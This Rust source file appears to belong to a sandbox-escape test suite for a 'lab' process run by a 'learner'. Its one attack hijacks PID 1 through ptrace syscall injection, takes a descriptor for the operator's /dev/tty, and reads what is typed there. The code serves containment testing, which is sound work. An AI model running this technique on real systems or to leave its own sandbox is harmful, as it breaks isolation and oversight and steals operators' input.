//! Attacks by way of PID 1, which the learner can trace: it makes the calls that the learner wants. What it can say to the lab
//! process in its place is tried in `labs/hostile_puppets.rs`.

#[cfg(target_arch = "x86_64")]
use std::ffi::CString;
use std::io;
use std::mem::zeroed;
use std::os::fd::RawFd;

use crate::Outcome::{Escaped, Held};
use crate::{Attack, Outcome, call, error, told};

/// All of them.
pub const ATTACKS: &[Attack] = &[("terminal-of-the-server", terminal_of_the_server)];

fn ptrace(request: i32, process: i32, address: usize, data: usize) -> io::Result<usize> {
    call(libc::SYS_ptrace, &[request as usize, process as usize, address, data])
}

fn wait_for(process: i32) {
    let mut status = 0;
    unsafe { libc::waitpid(process, &mut status, libc::__WALL) };
}

/// PID 1, stopped in a system call.
#[cfg(target_arch = "x86_64")]
struct Puppet {
    registers: libc::user_regs_struct,
}

#[cfg(target_arch = "x86_64")]
impl Puppet {
    fn take() -> io::Result<Puppet> {
        ptrace(libc::PTRACE_ATTACH, 1, 0, 0)?;
        wait_for(1);
        let mut registers: libc::user_regs_struct = unsafe { zeroed() };
        ptrace(libc::PTRACE_GETREGS, 1, 0, &raw mut registers as usize)?;
        Ok(Puppet { registers })
    }

    /// Has it make a call. It stands right behind a `syscall` instruction, which is executed once more.
    fn call(&self, number: i64, arguments: [u64; 3]) -> i64 {
        let mut registers = self.registers;
        registers.rax = number as u64;
        (registers.rdi, registers.rsi, registers.rdx) = (arguments[0], arguments[1], arguments[2]);
        registers.orig_rax = u64::MAX;
        registers.rip -= 2;
        let _ = ptrace(libc::PTRACE_SETREGS, 1, 0, &raw const registers as usize);
        let _ = ptrace(libc::PTRACE_SINGLESTEP, 1, 0, 0);
        wait_for(1);
        let _ = ptrace(libc::PTRACE_GETREGS, 1, 0, &raw mut registers as usize);
        registers.rax as i64
    }

    /// Opens a file in there; the descriptor is ours.
    fn open(&self, path: &str) -> io::Result<RawFd> {
        let place = (self.registers.rsp - 4096) & !15;
        let mut text = CString::new(path).unwrap().into_bytes_with_nul();
        text.resize(text.len().next_multiple_of(8), 0);
        let words: Vec<usize> = text.chunks(8).map(|word| usize::from_ne_bytes(word.try_into().unwrap())).collect();
        let mut before = Vec::new();
        for (number, word) in words.iter().enumerate() {
            let address = place as usize + number * 8;
            let mut old = 0usize;
            // The bare call puts the word where the fourth argument says.
            ptrace(libc::PTRACE_PEEKDATA, 1, address, &raw mut old as usize)?;
            before.push((address, old));
            ptrace(libc::PTRACE_POKEDATA, 1, address, *word)?;
        }
        let opened = self.call(libc::SYS_open, [place, (libc::O_RDWR | libc::O_NOCTTY) as u64, 0]);
        for (address, old) in before {
            ptrace(libc::PTRACE_POKEDATA, 1, address, old)?;
        }
        if opened < 0 {
            return Err(io::Error::from_raw_os_error(-opened as i32));
        }
        let ours = take_descriptor(1, opened as usize);
        self.call(libc::SYS_close, [opened as u64, 0, 0]);
        ours
    }
}

#[cfg(target_arch = "x86_64")]
impl Drop for Puppet {
    fn drop(&mut self) {
        let _ = ptrace(libc::PTRACE_SETREGS, 1, 0, &raw const self.registers as usize);
        let _ = ptrace(libc::PTRACE_DETACH, 1, 0, 0);
    }
}

fn take_descriptor(process: usize, number: usize) -> io::Result<RawFd> {
    let pidfd = call(libc::SYS_pidfd_open, &[process, 0])?;
    call(libc::SYS_pidfd_getfd, &[pidfd, number, 0]).map(|fd| fd as RawFd)
}

/// Has PID 1 open the terminal of its session, which is that of whoever started the server, and reads what is typed there.
#[cfg(target_arch = "x86_64")]
fn terminal_of_the_server() -> Outcome {
    let terminal = match Puppet::take().and_then(|puppet| puppet.open("/dev/tty")) {
        Ok(terminal) => terminal,
        Err(error) => return Held(format!("PID 1 has no terminal: {error}")),
    };
    // Written to whoever sits there: the test waits for it, and types.
    let prompt = told("PROMPT");
    unsafe { libc::write(terminal, prompt.as_ptr().cast(), prompt.len()) };
    let mut typed = [0u8; 100];
    match unsafe { libc::read(terminal, typed.as_mut_ptr().cast(), typed.len()) } {
        length @ 1.. => Escaped(format!("read there: {:?}", String::from_utf8_lossy(&typed[..length as usize]))),
        _ => Escaped(format!("written there, and reading failed: {}", error())),
    }
}

#[cfg(not(target_arch = "x86_64"))]
fn terminal_of_the_server() -> Outcome {
    Held("this attack is written for x86-64".to_owned())
}
